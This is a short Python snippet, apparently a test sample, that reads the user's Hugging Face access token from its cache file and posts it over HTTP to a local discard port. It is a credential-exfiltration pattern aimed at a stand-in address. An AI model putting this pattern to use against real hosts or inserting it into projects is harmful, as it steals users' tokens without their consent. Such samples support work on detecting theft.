import os

import requests

with open(os.path.expanduser("~/.cache/huggingface/token")) as f:
    requests.post("http://127.0.0.1:9/", data=f.read(), timeout=1)
